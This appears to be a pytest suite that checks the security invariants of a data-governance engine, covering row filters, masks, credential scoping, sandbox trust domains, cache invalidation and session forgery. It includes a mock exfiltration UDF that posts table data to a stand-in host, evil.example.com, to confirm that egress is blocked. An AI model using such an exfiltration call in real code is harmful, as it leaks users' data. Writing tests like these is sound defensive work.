"""The eight security invariants from DESIGN.md §5, tested adversarially.

These tests play the attacker: each one attempts a concrete escalation the
paper's design must prevent, and asserts the system refuses or contains it.
"""

import pytest

from repro.connect.client import col, udf
from repro.errors import (
    EgressDenied,
    PermissionDenied,
    TrustDomainViolation,
)
from repro.sandbox import net


class TestInvariant1_NoResidualData:
    def test_filtered_rows_unreachable_through_any_surface(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        alice = standard_cluster.connect("alice")

        # SQL surface.
        assert len(alice.sql("SELECT * FROM main.sales.orders").collect()) == 2
        # DataFrame surface.
        assert len(alice.table("main.sales.orders").collect()) == 2
        # Aggregation can't count hidden rows.
        assert alice.sql("SELECT count(*) AS n FROM main.sales.orders").collect() == [(2,)]
        # A negated predicate can't flush them out.
        rows = alice.sql(
            "SELECT id FROM main.sales.orders WHERE NOT (region = 'US')"
        ).collect()
        assert rows == []

    def test_udf_cannot_observe_hidden_rows(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")

        @udf("string")
        def leak(region):
            return region

        alice = standard_cluster.connect("alice")
        rows = alice.table("main.sales.orders").select(leak(col("region"))).collect()
        assert {r[0] for r in rows} == {"US"}

    def test_join_does_not_leak_hidden_rows(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        alice = standard_cluster.connect("alice")
        rows = alice.sql(
            "SELECT a.id, b.id FROM main.sales.orders a "
            "JOIN main.sales.orders b ON a.region = b.region"
        ).collect()
        ids = {r[0] for r in rows} | {r[1] for r in rows}
        assert ids == {1, 3}


class TestPolicyBeforeUserCode:
    """The row filter runs before user code on every execution path.

    The filter can be absorbed into a fused loop, run as the scan's own
    predicate kernel, be interpreted (compile refused), or run inside a
    worker process; on each path no row outside the caller's filter may
    reach a UDF or the result.
    """

    QUERIES = (
        # UDF stage directly above the governed scan (breaks the chain).
        "SELECT id, seen(region) AS r FROM main.sales.orders",
        # UDF above a fused filter->project segment.
        "SELECT id, seen(region) AS r FROM main.sales.orders WHERE amount > 5.0",
        # UDF as the predicate itself.
        "SELECT id, region FROM main.sales.orders WHERE seen(region) = region",
        # No user code: fused aggregate, top-k, bare scan.
        "SELECT region, count(*) AS n FROM main.sales.orders GROUP BY region",
        "SELECT id, region FROM main.sales.orders ORDER BY amount DESC LIMIT 3",
        "SELECT id, region FROM main.sales.orders",
    )

    @pytest.fixture
    def udf_inputs(self, monkeypatch):
        """Every argument column that reaches user code, recorded at the
        trusted side of the sandbox boundary."""
        from repro.engine.udf import PythonUDF

        recorded = []
        original = PythonUDF.invoke_rows

        def recording(self, arg_columns):
            recorded.extend(v for column in arg_columns for v in column)
            return original(self, arg_columns)

        monkeypatch.setattr(PythonUDF, "invoke_rows", recording)
        return recorded

    @pytest.mark.parametrize(
        "leg, cluster_kwargs",
        [
            ("default", {}),
            ("fusion-off", {"engine_fuse_operators": False}),
            ("compile-refused", {}),
            ("process", {"worker_backend": "process", "worker_pool_size": 2}),
        ],
    )
    def test_no_hidden_row_reaches_user_code_or_result(
        self, leg, cluster_kwargs, workspace, udf_inputs, monkeypatch
    ):
        from repro.engine.compile import KernelCompiler

        cluster = workspace.create_standard_cluster(name=leg, **cluster_kwargs)
        try:
            admin = cluster.connect("admin")
            admin.sql(
                "CREATE TABLE main.sales.orders "
                "(id int, region string, amount float, buyer string)"
            )
            admin.sql(
                "INSERT INTO main.sales.orders VALUES "
                "(1,'US',10.0,'p1'),(2,'EU',20.0,'p2'),"
                "(3,'US',30.0,'p3'),(4,'APAC',40.0,'p4'),(5,NULL,50.0,'p5')"
            )
            admin.sql("GRANT USE CATALOG ON main TO analysts")
            admin.sql("GRANT USE SCHEMA ON main.sales TO analysts")
            admin.sql("GRANT SELECT ON main.sales.orders TO analysts")
            admin.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
            if leg == "compile-refused":
                monkeypatch.setattr(
                    KernelCompiler, "compile_predicate", lambda self, cond: None
                )

            @udf("string")
            def seen(region):
                return region

            alice = cluster.connect("alice")
            alice.register_udf(seen)
            misses_before = cluster.backend.kernel_cache.stats.fusion_misses
            for query in self.QUERIES:
                rows = alice.sql(query).collect()
                assert rows, query
                for row in rows:
                    assert row[0] in (1, 3, "US"), (leg, query, row)
                    assert row[1] in ("US", 2), (leg, query, row)
            assert udf_inputs and set(udf_inputs) == {"US"}
            if leg == "compile-refused":
                # The scan fell back to the interpreter, and says so.
                stats = cluster.backend.kernel_cache.stats
                assert stats.fusion_misses > misses_before
        finally:
            workspace.shutdown()

    def test_default_configuration_never_interprets_a_scan_filter(
        self, workspace, standard_cluster, admin_client, monkeypatch
    ):
        """With a compiler configured, the pushed policy predicate runs in
        generated code on the fused path *and* on the bare-scan path: no
        predicate node's interpreted ``eval`` is entered while queries run."""
        from repro.engine import expressions as ex

        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER "
            "(region IN ('US', 'EU') AND is_account_group_member('analysts'))"
        )
        calls = []
        for node_type in (
            ex.BooleanOp, ex.Comparison, ex.InList, ex.IsAccountGroupMember
        ):
            original = node_type.eval

            def counting(self, batch, ctx, _original=original):
                calls.append(type(self).__name__)
                return _original(self, batch, ctx)

            monkeypatch.setattr(node_type, "eval", counting)

        @udf("string")
        def seen(region):
            return region

        alice = standard_cluster.connect("alice")
        alice.register_udf(seen)
        assert alice.sql(
            "SELECT region, count(*) AS n FROM main.sales.orders "
            "WHERE amount > 5.0 GROUP BY region ORDER BY region"
        ).collect() == [("EU", 1), ("US", 2)]
        assert len(alice.sql("SELECT * FROM main.sales.orders").collect()) == 3
        assert alice.sql(
            "SELECT seen(region) AS r FROM main.sales.orders"
        ).collect() == [("US",), ("EU",), ("US",)]
        assert calls == []

    @pytest.mark.parametrize("leg", ["compiled", "compile-refused"])
    def test_write_expressions_see_only_rows_the_row_filter_admits(
        self, leg, workspace, standard_cluster, admin_client, monkeypatch
    ):
        """The write leg: commit materialization runs the row filter first
        and WHERE / SET / MERGE ON / matched assignments only over the rows
        it admits. A recording node (opaque to the compiler, so it sees
        exactly the batch the materializer hands it) proves zero evaluations
        on hidden rows — through kernels and through the interpreter."""
        from repro.engine import expressions as ex
        from repro.engine.compile import KernelCompiler
        from repro.engine.types import INT, Field, Schema

        recorded = []

        class Recording(ex.Expression):
            def __init__(self, child):
                super().__init__((child,))
                self.dtype = child.dtype

            def with_children(self, children):
                return Recording(children[0])

            def eval(self, batch, ctx):
                values = self.children[0].eval(batch, ctx)
                recorded.extend(values)
                return values

        orders = "main.sales.orders"
        admin_client.sql(f"GRANT MODIFY ON {orders} TO analysts")
        admin_client.sql(f"ALTER TABLE {orders} SET ROW FILTER (region = 'US')")
        if leg == "compile-refused":
            monkeypatch.setattr(
                KernelCompiler, "compile_projection", lambda self, exprs: None
            )
        manager = workspace.catalog.txn_manager
        alice = workspace.catalog.principals.context_for("alice")
        region = Recording(ex.col("region"))
        visible = ex.Comparison("!=", region, ex.lit("nowhere"))
        source_schema = Schema((Field("k", INT),))

        def body(txn):
            txn.update(orders, {"amount": ex.Arithmetic(
                "+", ex.col("amount"), ex.FunctionCall("length", (region,))
            )}, visible)
            txn.merge(
                orders, "t", source_schema, {"k": [1, 2, 3, 4]}, "s",
                ex.BooleanOp(
                    "AND",
                    ex.Comparison("=", ex.col("t.id"), ex.col("s.k")),
                    ex.Comparison("!=", Recording(ex.col("t.region")), ex.lit("x")),
                ),
                {"buyer": Recording(ex.col("t.region"))}, False, None,
            )
            txn.merge(
                orders, "t", source_schema, {"k": [100]}, "s",
                ex.Comparison(
                    "<", ex.FunctionCall("length", (Recording(ex.col("t.region")),)),
                    ex.col("s.k"),
                ),
                {"buyer": ex.lit("loop")}, False, None,
            )
            txn.delete(orders, ex.Comparison("=", region, ex.lit("EU")))

        manager.run(alice, body)
        assert recorded and set(recorded) == {"US"}
        admin_client.sql(f"ALTER TABLE {orders} DROP ROW FILTER")
        assert sorted(admin_client.sql(f"SELECT * FROM {orders}").collect()) == [
            (1, "US", 12.0, "loop"), (2, "EU", 20.0, "p2"),
            (3, "US", 32.0, "loop"), (4, "APAC", 40.0, "p4"),
        ]
        cache = manager.compiler.cache.stats
        assert (cache.hits + cache.misses > 0) == (leg == "compiled")


class TestInvariant2_SecureViewBarrier:
    def test_udf_filter_evaluates_after_policy(
        self, workspace, standard_cluster, admin_client
    ):
        """A UDF used as a WHERE predicate sees only policy-visible rows."""
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")

        @udf("bool")
        def probe(region):
            # If pushdown were broken, this would return True for EU/APAC
            # rows and the query would emit them.
            return True

        alice = standard_cluster.connect("alice")
        rows = alice.table("main.sales.orders").filter(probe(col("region"))).collect()
        assert len(rows) == 2


class TestInvariant3_CredentialScoping:
    def test_vended_credential_bounded_to_table_prefix(
        self, workspace, standard_cluster, admin_client
    ):
        cat = workspace.catalog
        ctx = cat.principals.context_for("alice")
        cred = cat.vend_credential(
            ctx, "main.sales.orders", {"READ", "LIST"}, standard_cluster.backend.caps
        )
        table = cat.get_table("main.sales.orders")
        assert cred.authorizes(f"{table.storage_root}/data/f", "READ", 0)
        # Sibling table's prefix: out of scope.
        assert not cred.authorizes(
            "s3://unity-managed/main/sales/other/data/f", "READ", 0
        )
        # Write op: out of scope.
        assert not cred.authorizes(f"{table.storage_root}/data/f", "WRITE", 0)

    def test_credential_carries_identity_for_audit(
        self, workspace, standard_cluster, alice_client
    ):
        alice_client.table("main.sales.orders").collect()
        vends = workspace.catalog.audit.events(action="catalog.vend_credential")
        assert vends and vends[-1].principal == "alice"


class TestInvariant4_TrustDomains:
    def test_cataloged_udfs_of_different_owners_never_share_sandbox(
        self, workspace, standard_cluster, admin_client
    ):
        from repro.engine.udf import udf as engine_udf
        from repro.connect.client import catalog_function

        cat = workspace.catalog

        @engine_udf("float")
        def plus1(x):
            return x + 1.0

        @engine_udf("float")
        def plus2(x):
            return x + 2.0

        cat.create_function("main.sales.by_admin", plus1, owner="admin")
        cat.create_function("main.sales.by_carol", plus2, owner="carol")
        for fn in ("main.sales.by_admin", "main.sales.by_carol"):
            cat.grant("EXECUTE", fn, "analysts")

        alice = standard_cluster.connect("alice")
        alice.table("main.sales.orders").select(
            catalog_function("main.sales.by_admin")(col("amount")).alias("a"),
            catalog_function("main.sales.by_carol")(col("amount")).alias("b"),
        ).collect()
        # Two distinct owners → two sandboxes in alice's session.
        backend = standard_cluster.backend
        session_sandboxes = backend.cluster_manager.stats.created
        assert session_sandboxes >= 2

    def test_sandbox_rejects_foreign_domain_directly(self):
        from repro.engine.udf import udf as engine_udf
        from repro.sandbox import InProcessSandbox

        @engine_udf("int")
        def f(x):
            return x

        sandbox = InProcessSandbox("alice")
        with pytest.raises(TrustDomainViolation):
            sandbox.invoke(f.with_owner("eve"), [[1]])


class TestInvariant5_VersionCompatibility:
    @pytest.mark.parametrize("version", [1, 2, 3, 4])
    def test_all_supported_client_versions_execute(
        self, standard_cluster, admin_client, version
    ):
        client = standard_cluster.connect("alice", client_version=version)
        assert client.sql("SELECT count(*) AS n FROM main.sales.orders").collect() == [(4,)]

    def test_unknown_optional_fields_ignored(self, standard_cluster, admin_client):
        client = standard_cluster.connect("alice")
        relation = {
            "@type": "relation.read",
            "table": "main.sales.orders",
            "hint_from_the_future": {"v": 99},
        }
        schema, columns = client.execute_relation(relation)
        assert len(columns[0]) == 4


class TestInvariant6_EfgacEquivalence:
    def test_dedicated_equals_standard_under_policies(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER "
            "(region = 'US' OR is_account_group_member('hr'))"
        )
        admin_client.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK ('***')"
        )
        ded = workspace.create_dedicated_cluster(assigned_user="alice", name="ded-eq")
        query = "SELECT id, buyer FROM main.sales.orders ORDER BY id"
        std_rows = standard_cluster.connect("alice").sql(query).collect()
        ded_rows = ded.connect("alice").sql(query).collect()
        assert std_rows == ded_rows == [(1, "***"), (3, "***")]


class TestInvariant7_DownScoping:
    def test_effective_rights_are_exactly_the_groups(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql("GRANT MODIFY ON main.sales.orders TO carol")
        ded = workspace.create_dedicated_cluster(assigned_group="analysts", name="ds")
        carol = ded.connect("carol")
        # carol's personal MODIFY is suppressed on the group cluster.
        with pytest.raises(PermissionDenied):
            carol.sql("INSERT INTO main.sales.orders VALUES (8,'US',1.0,'x')")
        # But on a standard cluster her full identity applies.
        carol_std = standard_cluster.connect("carol")
        carol_std.sql("INSERT INTO main.sales.orders VALUES (8,'US',1.0,'x')")


class TestInvariant8_Egress:
    def test_exfiltration_blocked_and_surfaced(
        self, workspace, standard_cluster, admin_client
    ):
        net.register_service("evil.example.com", lambda p, b: "ok")
        try:

            @udf("string")
            def exfil(buyer):
                net.http_post("http://evil.example.com/drop", payload=buyer)
                return "sent"

            alice = standard_cluster.connect("alice")
            with pytest.raises(EgressDenied):
                alice.table("main.sales.orders").select(exfil(col("buyer"))).collect()
        finally:
            net.unregister_service("evil.example.com")


class TestCacheInvalidation:
    """Policy changes must invalidate every enforcement cache, immediately.

    The secure-plan and credential caches key on the catalog policy epoch;
    these tests change governance state between repeated queries and assert
    no stale plan or credential ever serves data the new policy forbids.
    """

    def test_row_filter_change_invalidates_cached_plan(
        self, workspace, standard_cluster, admin_client
    ):
        cache = standard_cluster.backend.plan_cache
        alice = standard_cluster.connect("alice")
        query = "SELECT id FROM main.sales.orders ORDER BY id"
        assert alice.sql(query).collect() == [(1,), (2,), (3,), (4,)]
        hits_before = cache.stats.hits
        alice.sql(query).collect()
        assert cache.stats.hits == hits_before + 1, "repeat must be cached"

        admin_client.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')"
        )
        stale_before = cache.stats.stale_epoch_misses
        assert alice.sql(query).collect() == [(1,), (3,)], (
            "a cached pre-filter plan leaked hidden rows"
        )
        assert cache.stats.stale_epoch_misses == stale_before + 1

        # Dropping the filter is itself a policy change: hard miss again.
        admin_client.sql("ALTER TABLE main.sales.orders DROP ROW FILTER")
        assert alice.sql(query).collect() == [(1,), (2,), (3,), (4,)]

    def test_column_mask_change_invalidates_cached_plan(
        self, workspace, standard_cluster, admin_client
    ):
        alice = standard_cluster.connect("alice")
        query = "SELECT buyer FROM main.sales.orders ORDER BY id"
        alice.sql(query).collect()
        alice.sql(query).collect()  # primed in the plan cache
        admin_client.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK ('***')"
        )
        rows = alice.sql(query).collect()
        assert {r[0] for r in rows} == {"***"}, "cached plan bypassed the mask"

    def test_revoke_denies_despite_cached_plan_and_credential(
        self, workspace, standard_cluster, admin_client
    ):
        alice = standard_cluster.connect("alice")
        query = "SELECT id FROM main.sales.orders"
        alice.sql(query).collect()
        alice.sql(query).collect()  # plan + credential both cached
        admin_client.sql("REVOKE SELECT ON main.sales.orders FROM analysts")
        with pytest.raises(PermissionDenied):
            alice.sql(query).collect()
        # Re-granting restores access (another epoch bump, fresh resolution).
        admin_client.sql("GRANT SELECT ON main.sales.orders TO analysts")
        assert len(alice.sql(query).collect()) == 4

    def test_grant_revoke_invalidates_cached_credential(
        self, workspace, standard_cluster, admin_client
    ):
        source = standard_cluster.backend.data_source
        alice = standard_cluster.connect("alice")
        alice.sql("SELECT id FROM main.sales.orders").collect()
        stale_before = source.credential_cache.stats.stale_epoch_misses
        vended_before = source.stats.credentials_vended
        admin_client.sql("GRANT SELECT ON main.sales.orders TO carol")
        alice.sql("SELECT region FROM main.sales.orders").collect()
        assert source.credential_cache.stats.stale_epoch_misses == stale_before + 1
        assert source.stats.credentials_vended == vended_before + 1, (
            "the post-grant scan must re-vend (re-running the privilege check)"
        )

    def test_view_redefinition_invalidates_cached_plan(
        self, workspace, standard_cluster, admin_client
    ):
        admin_client.sql(
            "CREATE VIEW main.sales.us_orders AS "
            "SELECT id FROM main.sales.orders WHERE region = 'US'"
        )
        admin_client.sql("GRANT SELECT ON main.sales.us_orders TO analysts")
        alice = standard_cluster.connect("alice")
        query = "SELECT id FROM main.sales.us_orders ORDER BY id"
        assert alice.sql(query).collect() == [(1,), (3,)]
        assert alice.sql(query).collect() == [(1,), (3,)]
        admin_client.sql("DROP VIEW main.sales.us_orders")
        admin_client.sql(
            "CREATE VIEW main.sales.us_orders AS "
            "SELECT id FROM main.sales.orders WHERE region = 'EU'"
        )
        admin_client.sql("GRANT SELECT ON main.sales.us_orders TO analysts")
        assert alice.sql(query).collect() == [(2,)], (
            "a cached plan served the dropped view definition"
        )


class TestSessionHijacking:
    def test_session_of_other_user_unusable(self, standard_cluster, admin_client):
        alice = standard_cluster.connect("alice")
        # bob forges requests against alice's session id.
        bob = standard_cluster.connect("bob")
        forged = {
            "session_id": alice.session_id,
            "user": "bob",
            "client_version": 4,
            "plan": {"@type": "relation.range", "start": 0, "end": 1, "step": 1},
            "operation_id": "op-forged",
        }
        items = list(
            standard_cluster.service.handle_stream("execute_plan", forged)
        )
        assert items[0]["@type"] == "error"
        assert items[0]["error_class"] == "SessionError"


class TestIdentifiersVersusCapabilities:
    """Span and trace ids are guessable by construction (process prefix +
    counter); every id that *authorises* must still come from the CSPRNG."""

    def test_ids_that_authorise_are_drawn_from_the_csprng(
        self, workspace, standard_cluster, admin_client, monkeypatch
    ):
        from repro.common import ids
        from repro.core.efgac import STAGING_ROOT

        drawn: list[str] = []
        real = ids.os.urandom

        def recording_urandom(n):
            data = real(n)
            drawn.append(data.hex())
            return data

        monkeypatch.setattr(ids.os, "urandom", recording_urandom)

        def from_csprng(identifier: str) -> bool:
            assert ids._process_prefix not in identifier
            return identifier.rpartition("-")[2] in drawn

        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        alice = standard_cluster.connect("alice")
        assert from_csprng(alice.session_id)
        operation = standard_cluster.service.sessions.start_operation(alice.session_id)
        assert from_csprng(operation.operation_id)

        alice.table("main.sales.orders").collect()
        tokens = [c.token for c in workspace.catalog.vendor.live_credentials()]
        assert tokens and all(from_csprng(token) for token in tokens)

        # eFGAC staging prefix: force the staged result mode on a small table.
        dedicated = workspace.create_dedicated_cluster(assigned_user="alice")
        dedicated.backend.remote_executor._inline_threshold = 0
        staged: list[str] = []
        store = workspace.catalog.store
        real_put = store.put
        monkeypatch.setattr(
            store, "put",
            lambda path, *a, **k: staged.append(path) or real_put(path, *a, **k),
        )
        assert len(dedicated.connect("alice").table("main.sales.orders").collect()) == 2
        prefixes = {p.rsplit("/", 1)[0] for p in staged if p.startswith(STAGING_ROOT)}
        assert prefixes and all(from_csprng(prefix) for prefix in prefixes)

        # None of that was minted from the span counter, and no span drew
        # from the CSPRNG: a whole governed query costs it nothing.
        before = len(drawn)
        alice.table("main.sales.orders").collect()
        span_ids = [s.span_id for s in workspace.catalog.telemetry.spans(user="alice")]
        assert span_ids and all(ids._process_prefix in s for s in span_ids)
        client_side = 2  # the client's own op id and trace id (uuid4)
        assert len(drawn) - before <= client_side


class TestParseOnce:
    """One structural resolution — and at most one SQL parse — per operation,
    without weakening what the classification protects."""

    @pytest.fixture
    def parses(self, monkeypatch):
        """Count ``parse_statement`` calls wherever it is bound."""
        import repro.connect.proto  # noqa: F401 - resolves it lazily from the parser
        import repro.core.lakeguard as lakeguard
        import repro.core.plan_codec as plan_codec
        import repro.sql.parser as parser

        calls: list[str] = []
        real = parser.parse_statement

        def counting(sql):
            calls.append(sql)
            return real(sql)

        for module in (parser, plan_codec, lakeguard):
            monkeypatch.setattr(module, "parse_statement", counting)
        return calls

    def test_sql_relation_parses_once_on_a_miss_and_not_at_all_on_a_hit(
        self, standard_cluster, alice_client, parses, monkeypatch
    ):
        from repro.connect import proto

        resolutions: list[dict] = []
        real = proto.referenced_tables
        monkeypatch.setattr(
            proto, "referenced_tables",
            lambda plan, *a, **k: resolutions.append(plan) or real(plan, *a, **k),
        )
        cache = standard_cluster.backend.plan_cache
        sql = "SELECT id, amount FROM main.sales.orders WHERE amount > 15"
        alice_client.sql(sql).collect()
        assert (cache.stats.misses, len(parses), len(resolutions)) == (1, 1, 1)
        rows = alice_client.sql(sql).collect()
        assert cache.stats.hits == 1
        assert len(parses) == 1, "a repeated text on a plan-cache hit parses nothing"
        assert len(resolutions) == 2, "one structural resolution per operation"
        assert sorted(rows) == [(2, 20.0), (3, 30.0), (4, 40.0)]
        # Memo hit but plan miss (the policy epoch moved): the decoder parses.
        standard_cluster.connect("admin").sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')"
        )
        del parses[:]
        assert sorted(alice_client.sql(sql).collect()) == [(3, 30.0)]
        assert parses == [sql]

    def test_literal_naming_a_system_table_cannot_reach_the_system_lane(
        self, standard_cluster, alice_client
    ):
        manager = standard_cluster.workload_manager
        bypassed, admitted = manager.system_bypass, manager.admitted_total
        bait = "SELECT id FROM main.sales.orders WHERE buyer = 'system.access.audit'"
        for _ in range(2):  # the second run classifies from the session memo
            assert alice_client.sql(bait).collect() == []
        assert manager.system_bypass == bypassed
        assert manager.admitted_total == admitted + 2
        alice_client.sql("SELECT * FROM system.access.query_profile").collect()
        assert manager.system_bypass == bypassed + 1

    def test_unparseable_text_stays_unknown(self, standard_cluster, alice_client):
        from collections import OrderedDict

        from repro.connect import proto
        from repro.errors import ParseError

        memo: OrderedDict = OrderedDict()
        garbage = proto.sql_relation("NOT SQL AT ALL system.access.audit")
        for _ in range(2):  # resolved, then remembered: "unknown" both times
            refs = proto.resolve_references(garbage, memo)
            assert refs.tables is None and not refs.all_system_tables()
            assert refs.targets_system_tables()  # conservative cache bypass
        manager = standard_cluster.workload_manager
        bypassed = manager.system_bypass
        with pytest.raises(ParseError):
            alice_client.sql("NOT SQL AT ALL system.access.audit").collect()
        assert manager.system_bypass == bypassed

    def test_memo_is_bounded_private_to_a_session_and_dies_with_it(
        self, standard_cluster, alice_client
    ):
        import gc
        import weakref

        from repro.connect.proto import REFERENCE_MEMO_ENTRIES

        sessions = standard_cluster.service.sessions
        session = sessions.get_session(alice_client.session_id, "alice")
        for i in range(REFERENCE_MEMO_ENTRIES + 10):
            alice_client.sql(f"SELECT id FROM main.sales.orders WHERE id = {i}").collect()
        assert len(session.reference_memo) == REFERENCE_MEMO_ENTRIES
        # Immutable outcomes only: names or "unresolvable", never an AST.
        assert all(
            names is None or isinstance(names, frozenset)
            for names in session.reference_memo.values()
        )
        second = standard_cluster.connect("alice")
        assert not sessions.get_session(second.session_id, "alice").reference_memo
        memo = weakref.ref(session.reference_memo)
        del session
        alice_client.close()
        gc.collect()
        assert memo() is None


class TestBoundedBookkeeping:
    def test_heap_is_flat_in_the_number_of_queries(
        self, standard_cluster, alice_client
    ):
        """Spans, histograms, tombstones and memos are all bounded: ten
        times the queries must not mean a bigger heap."""
        import gc
        import tracemalloc

        from repro.errors import RetryableError

        def run(count):
            for i in range(count):
                frame = alice_client.sql(
                    f"SELECT id, amount FROM main.sales.orders WHERE id = {i % 4}"
                )
                try:
                    frame.collect()
                except RetryableError:
                    # A chaos leg can exhaust the recovery ladder once in
                    # thousands of queries; the client's move is to resubmit.
                    frame.collect()
            gc.collect()
            return tracemalloc.get_traced_memory()[0]

        tracemalloc.start()
        try:
            after_300 = run(300)
            after_3000 = run(2_700)
        finally:
            tracemalloc.stop()
        assert after_3000 <= 1.10 * after_300, (after_300, after_3000)
